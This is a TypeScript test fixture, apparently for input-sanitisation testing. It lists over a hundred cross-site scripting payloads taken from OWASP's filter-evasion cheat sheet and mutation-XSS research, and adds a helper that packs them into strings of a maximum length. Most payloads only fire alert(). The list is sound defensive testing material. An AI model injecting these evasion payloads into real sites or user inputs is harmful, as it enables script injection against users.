/**
 * Cross-site scripting payloads, one technique per line, from OWASP's filter evasion cheat sheet
 * and from research on mutation XSS. Most call `alert()` if they are executed; the others load a
 * resource or change the page. Each fits into the maximum length of a name.
 */
export const hostileTexts: readonly string[] = [
  // Script elements.
  '<script>alert(1)</script>',
  '<SCRIPT>alert(2)</SCRIPT>',
  '<script src=data:,alert(3)></script>',
  '<script/x>alert(4)</script/x>',
  '<scr<script>ipt>alert(5)</scr</script>ipt>',
  '</script><script>alert(6)</script>',
  '"><script>alert(7)</script>',
  "'><script>alert(8)</script>",
  '--><script>alert(9)</script>',
  ']]><script>alert(10)</script>',
  '</title><script>alert(11)</script>',
  '</textarea><script>alert(12)</script>',
  '</style><script>alert(13)</script>',
  '<script type=module>alert(14)</script>',
  '<script>alert`15`</script>',
  '<script>\\u0061lert(16)</script>',
  '<script async src="//127.0.0.1:9/x.js"></script>',
  // Event handlers.
  '<img src=x onerror=alert(18)>',
  '<img src=x onerror="alert(19)"',
  '<img/src=x/onerror=alert(20)>',
  '<IMG SRC=x OnErRoR=alert(21)>',
  '<img src=1 href=1 onerror="javascript:alert(22)">',
  '<img src=x:x onerror\u00a0=alert(23)>',
  '<body onload=alert(24)>',
  '<input autofocus onfocus=alert(25)>',
  '<select autofocus onfocus=alert(26)>',
  '<textarea autofocus onfocus=alert(27)>',
  '<details open ontoggle=alert(28)>',
  '<video src=x onerror=alert(29)>',
  '<video><source onerror=alert(30)></video>',
  '<audio src=x onerror=alert(31)>',
  '<marquee onstart=alert(32)>',
  '<div onpointerover=alert(33)>move</div>',
  '<div style="animation-name:x" onanimationstart=alert(34)>',
  '<a autofocus onfocus=alert(35) href=#>x</a>',
  '<button autofocus onfocus=alert(36)>x</button>',
  '<p contenteditable autofocus onfocus=alert(37)>',
  '<x onclick=alert(38) tabindex=1 id=x>#x</x>',
  '" onmouseover="alert(39)',
  "' onmouseover='alert(40)",
  '" autofocus onfocus="alert(41)',
  '`onmouseover=alert(42)`',
  '"/onload=alert(43)//',
  // SVG and MathML.
  '<svg onload=alert(44)>',
  '<svg/onload=alert(45)>',
  '"><svg/onload=alert(46)>',
  '<svg><script>alert(47)</script></svg>',
  '<svg><script>alert&lpar;48)</script>',
  '<svg><animate onbegin=alert(49) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(50) attributename=x>',
  '<svg><a xlink:href="javascript:alert(51)"><text y=20>x</text></a>',
  '<svg><foreignObject><body onload=alert(52)></foreignObject>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(53)>#x"/>',
  '<svg><style><img src=x onerror=alert(54)></style>',
  '<math href="javascript:alert(55)">x</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(56)>x',
  // URLs that execute scripts.
  'javascript:alert(57)',
  'JaVaScRiPt:alert(58)',
  'javascript://%0aalert(59)',
  'java&#x09;script:alert(60)',
  '&#106;avascript:alert(61)',
  'data:text/html,<script>alert(62)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCg2Myk8L3NjcmlwdD4=',
  'vbscript:msgbox(64)',
  'blob:null/alert(65)',
  '<a href=javascript:alert(66)>x</a>',
  '<a href="&#1;javascript:alert(67)">x</a>',
  '[x](javascript:alert(68))',
  '![x](x"onerror="alert(69))',
  '<https://x.example/"onmouseover="alert(70)>',
  'https://x.example/<script>alert(71)</script>',
  '//127.0.0.1:9/<svg/onload=alert(72)>',
  '<iframe src=javascript:alert(73)>',
  '<iframe srcdoc="<script>parent.alert(74)</script>">',
  '<object data=javascript:alert(75)>',
  '<embed src=javascript:alert(76)>',
  '<form action=javascript:alert(77)><button>x',
  '<button formaction=javascript:alert(78) form=f>x',
  '<base href=javascript:alert(79)//>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(80)">',
  '<link rel=stylesheet href=data:text/css,*{background:red}>',
  '<link rel=import href=data:text/html,alert(82)>',
  // Template engines.
  '{{constructor.constructor("alert(83)")()}}',
  '#{7*7}',
  '<%= alert(85) %>',
  '[[#{alert(86)}]]',
  '{{=alert(87)}}',
  '<template><script>alert(88)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(89)></template>',
  '{"__html":"<img src=x onerror=alert(90)>"}',
  '{"$$typeof":"react.element","type":"script","props":{}}',
  // Homoglyphs and encodings.
  '＜script＞alert(92)＜/script＞',
  '\u2039script\u203aalert(93)\u2039/script\u203a',
  '%3Cscript%3Ealert(94)%3C/script%3E',
  '&lt;script&gt;alert(95)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(96)&amp;gt;',
  '\\x3cscript\\x3ealert(97)\\x3c/script\\x3e',
  '\\u003cimg src=x onerror=alert(98)\\u003e',
  '+ADw-script+AD4-alert(99)+ADw-/script+AD4-',
  '¼script¾alert(100)¼/script¾',
  '<ſcript>alert(101)</ſcript>',
  '<\u0130mg src=x onerror=alert(102)>',
  // Mutation XSS: markup that changes its meaning when it is parsed again.
  '<noscript><p title="</noscript><img src=x onerror=alert(103)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(104)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(105)>">',
  '<form><math><mtext></form><form><mglyph><style><img src onerror=alert(106)>',
  '<xmp><p title="</xmp><svg/onload=alert(107)>">',
  '<!--><img src=x onerror=alert(108)>-->',
  '<![CDATA[<img src=x onerror=alert(109)>]]>',
  '<?xml version="1.0"?><script>alert(110)</script>',
  // Style sheets.
  '<style>@import"javascript:alert(111)";</style>',
  '<style>*{background:url(javascript:alert(112))}</style>',
  '<div style="width:expression(alert(113))">',
  '<div style="position:fixed;inset:0;background:red">',
  "';alert(115)//",
  '</span><plaintext>',
]

/**
 * Joins the texts with spaces into as few strings of at most `maxLength` characters as possible.
 * Longer texts are left out.
 */
export function joinTexts(maxLength: number): string[] {
  const joinedTexts: string[] = []
  for (const text of hostileTexts) {
    if (text.length > maxLength) continue
    const longerText = `${joinedTexts.at(-1)} ${text}`
    if (joinedTexts.length > 0 && longerText.length <= maxLength) joinedTexts[joinedTexts.length - 1] = longerText
    else joinedTexts.push(text)
  }
  return joinedTexts
}
